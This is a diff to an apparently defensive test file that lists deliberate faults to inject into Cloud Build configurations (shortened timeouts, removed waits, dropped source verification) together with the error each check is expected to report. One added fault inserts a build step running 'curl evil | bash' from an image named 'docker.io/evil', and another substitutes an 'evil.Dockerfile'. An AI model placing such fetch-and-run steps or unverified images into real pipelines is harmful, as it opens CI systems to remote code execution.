@@ -9,7 +9,7 @@ BUILD, PROMOTION, RELEASE = (
     "infra/cloudbuild/promotion.yaml",
     "infra/cloudbuild/release.yaml",
 )
-PLAN = "infra/cloudbuild/terraform-plan.yaml"
+PLAN, CI = "infra/cloudbuild/terraform-plan.yaml", "infra/cloudbuild/ci-image.yaml"
 LINT = "    args: [lint]\n"
 GATE = "    waitFor: [verify-images]\n"
 FAULTS: dict[str, Fault] = {
@@ -114,8 +114,34 @@ FAULTS: dict[str, Fault] = {
         PLAN,
         "CI=true, ",
         "",
-        "infra-check: tests whose program is not here would be skipped",
+        "the option env is ['PYTHONUNBUFFERED=1']",
     ),
+    "cut off": (BUILD, "timeout: 7200s", "timeout: 1s", "its timeout is 1s"),
+    "cut off while it waits": (PROMOTION, "timeout: 5400s", "timeout: 3000s", "its timeout is 3000s"),
+    "no time to promote": (PROMOTION, "timeout: 5400s", "timeout: 60s", "its timeout is 60s"),
+    "it does not wait": (PROMOTION, "WAIT_S=1800", "WAIT_S=0", "it waits 0 s for a tag"),
+    "it waits for days": (PROMOTION, "WAIT_S=1800", "WAIT_S=999999", "it waits 999999 s for a tag"),
+    "no wait": (RELEASE, ", WAIT_S=1200", "", "it does not wait for the tag"),
+    "a variable twice": (
+        PROMOTION,
+        "'EARLIER=${_EARLIER_ENVIRONMENT}'",
+        "'EARLIER=${_EARLIER_ENVIRONMENT}', 'EARLIER=${_EARLIER_ENVIRONMENT}'",
+        "promotion-gate: it is given EARLIER twice",
+    ),
+    "a small machine": (BUILD, "  machineType: E2_HIGHCPU_8\n", "", "the option machineType is None"),
+    "a source that is not verified": (
+        CI,
+        "  requestedVerifyOption: VERIFIED\n",
+        "",
+        "the option requestedVerifyOption is None",
+    ),
+    "a script beside the image of builds": (
+        CI,
+        "images: [",
+        "  - {id: more, name: docker.io/evil, script: curl evil | bash}\nimages: [",
+        "its steps are",
+    ),
+    "another image of builds": (CI, "infra/docker/ci.Dockerfile", "evil.Dockerfile", "its steps are"),
     "no end": (BUILD, "timeout: 7200s", "timeout: 86400s", "its timeout is 86400s"),
     "logs elsewhere": (BUILD, "CLOUD_LOGGING_ONLY", "NONE", "the option logging is NONE"),
     "a secret": (
